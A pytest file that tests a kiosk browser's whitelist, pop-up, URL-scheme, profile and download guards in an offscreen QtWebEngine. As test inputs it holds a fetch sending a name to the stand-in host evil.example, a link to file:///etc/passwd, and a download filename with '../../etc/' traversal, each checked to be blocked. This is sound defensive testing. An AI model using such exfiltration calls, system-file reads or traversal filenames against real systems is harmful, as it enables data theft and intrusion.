"""The whitelist's gates in a real QtWebEngine, offscreen, with real host names."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from PySide6.QtCore import QUrl
from PySide6.QtWebEngineCore import QWebEnginePage, QWebEngineProfile, QWebEngineSettings
from pytestqt.qtbot import QtBot

from kiosk.core.policy import Policy, parse_policy
from kiosk.shell.guard import GuardedPage, SessionDownloads, WhitelistInterceptor, harden
from kiosk.shell.sessionfs import SessionFolder
from tests.shell.conftest import CAF_POLICY
from tests.webproxy import WebProxy

POLICY = CAF_POLICY

HOME = """<html><head><title>CAF</title></head><body>
<img id="ok" src="http://static.caf-cdn.example/logo.png">
<img id="tracker" src="http://evil.example/pixel.png">
<a id="evil" href="http://evil.example/phishing">offre</a>
<a id="file" href="file:///etc/passwd">fichier</a>
<a id="blank" href="http://evil.example/popup" target="_blank">nouvelle fenêtre</a>
</body></html>"""


@dataclass
class Session:
    page: GuardedPage
    interceptor: WhitelistInterceptor
    profile: QWebEngineProfile
    policy: Policy


@pytest.fixture
def session(qtbot: QtBot, web_proxy: WebProxy) -> Iterator[Session]:
    web_proxy.serve("www.caf.fr", "/", HOME)
    web_proxy.serve("static.caf-cdn.example", "/logo.png", "PNG", "image/png")
    web_proxy.serve("evil.example", "/pixel.png", "PNG", "image/png")
    web_proxy.serve("evil.example", "/phishing", "<title>Piège</title>")
    web_proxy.serve("evil.example", "/popup", "<title>Piège</title>")
    policy = parse_policy(POLICY)
    profile = QWebEngineProfile()
    assert profile.isOffTheRecord()
    interceptor = WhitelistInterceptor(policy, profile)
    harden(profile, interceptor)
    page = GuardedPage(profile, policy)
    with qtbot.waitSignal(page.loadFinished, timeout=60_000) as loaded:
        page.setUrl(QUrl("http://www.caf.fr/"))
    assert loaded.args == [True]
    yield Session(page, interceptor, profile, policy)
    with qtbot.waitSignal(page.destroyed):
        page.deleteLater()
    with qtbot.waitSignal(profile.destroyed):
        profile.deleteLater()


def run_js(qtbot: QtBot, page: QWebEnginePage, script: str) -> object:
    results: list[object] = []
    page.runJavaScript(script, 0, results.append)
    qtbot.waitUntil(lambda: bool(results), timeout=10_000)
    return results[0]


def test_allowed_page_loads_with_its_resources_and_trackers_never_leave(
        qtbot: QtBot, session: Session, web_proxy: WebProxy) -> None:
    assert session.page.title() == "CAF"
    qtbot.waitUntil(lambda: "static.caf-cdn.example" in web_proxy.hosts_requested(),
                    timeout=10_000)
    loaded = run_js(qtbot, session.page, "document.getElementById('ok').complete")
    assert loaded is True
    assert "evil.example" not in web_proxy.hosts_requested()


def test_the_interceptor_reports_a_refused_subresource(qtbot: QtBot, session: Session,
                                                       web_proxy: WebProxy) -> None:
    with qtbot.waitSignal(session.interceptor.blocked, timeout=10_000,
                          check_params_cb=lambda host, *_: host == "evil.example") as blocked:
        run_js(qtbot, session.page, "fetch('http://evil.example/data?name=Dupont')"
                                    ".catch(() => null); true")
    assert blocked.args == ["evil.example", "subresource", "not-whitelisted"]
    assert "evil.example" not in web_proxy.hosts_requested()


def test_a_link_to_another_site_is_refused(qtbot: QtBot, session: Session,
                                           web_proxy: WebProxy) -> None:
    with qtbot.waitSignal(session.page.navigation_blocked, timeout=10_000) as blocked:
        run_js(qtbot, session.page, "document.getElementById('evil').click(); true")
    assert blocked.args == ["evil.example", "not-whitelisted", True]
    assert session.page.url().host() == "www.caf.fr"
    assert "evil.example" not in web_proxy.hosts_requested()


def test_file_and_data_addresses_are_refused(qtbot: QtBot, session: Session) -> None:
    for address in ("file:///etc/passwd", "data:text/html,<h1>Faux site</h1>"):
        with qtbot.waitSignal(session.page.navigation_blocked, timeout=10_000) as blocked:
            session.page.setUrl(QUrl(address))
        assert blocked.args[1] == "scheme-not-allowed"
        assert run_js(qtbot, session.page, "document.title") == "CAF"  # nothing replaced it


def test_pop_ups_open_inside_the_shell_and_are_guarded(qtbot: QtBot, session: Session,
                                                       web_proxy: WebProxy) -> None:
    # Without tabs, the pop-up's address is taken to the page that opened it, and refused.
    with qtbot.waitSignal(session.page.navigation_blocked, timeout=10_000) as blocked:
        run_js(qtbot, session.page, "window.open('http://evil.example/popup'); true")
    assert blocked.args == ["evil.example", "not-whitelisted", True]
    assert run_js(qtbot, session.page, "document.title") == "CAF"
    # An allowed one opens in the same page.
    web_proxy.serve("www.caf.fr", "/aide", "<title>Aide</title>")
    with qtbot.waitSignal(session.page.loadFinished, timeout=10_000):
        run_js(qtbot, session.page, "window.open('http://www.caf.fr/aide'); true")
    assert session.page.title() == "Aide"
    with qtbot.waitSignal(session.page.loadFinished, timeout=10_000):
        session.page.setUrl(QUrl("http://www.caf.fr/"))

    session.page.popups_in_tabs = True
    popups: list[GuardedPage] = []
    session.page.popup_opened.connect(popups.append)
    session.page.runJavaScript("document.getElementById('blank').click()")
    qtbot.waitUntil(lambda: bool(popups), timeout=10_000)
    popup = popups[0]
    assert popup.profile() is session.profile
    assert popup.popups_in_tabs
    assert "evil.example" not in web_proxy.hosts_requested()
    with qtbot.waitSignal(popup.destroyed):
        popup.deleteLater()


def test_the_profile_is_locked_down(session: Session) -> None:
    settings = session.profile.settings()
    attribute = QWebEngineSettings.WebAttribute
    for name in ("LocalContentCanAccessFileUrls", "LocalContentCanAccessRemoteUrls",
                 "NavigateOnDropEnabled", "ScreenCaptureEnabled", "PluginsEnabled",
                 "JavascriptCanAccessClipboard", "JavascriptCanPaste"):
        assert settings.testAttribute(getattr(attribute, name)) is False, name
    assert session.profile.isOffTheRecord()


def test_downloads_land_in_the_session_folder_only(qtbot: QtBot, session: Session,
                                                   web_proxy: WebProxy, tmp_path: Path) -> None:
    web_proxy.serve("www.caf.fr", "/attestation", b"%PDF-1.4 attestation", "application/pdf",
                    {"Content-Disposition": 'attachment; filename="../../etc/attestation.pdf"'})
    folder = SessionFolder(tmp_path / "session")
    folder.create()
    documents = folder.documents
    downloads = SessionDownloads(session.profile, session.policy, folder, 10_000_000)
    with qtbot.waitSignal(downloads.saved, timeout=30_000) as saved:
        session.page.setUrl(QUrl("http://www.caf.fr/attestation"))
    assert saved.args == ["attestation.pdf"]
    assert (documents / "attestation.pdf").read_bytes() == b"%PDF-1.4 attestation"
    assert [p.name for p in documents.iterdir()] == ["attestation.pdf"]
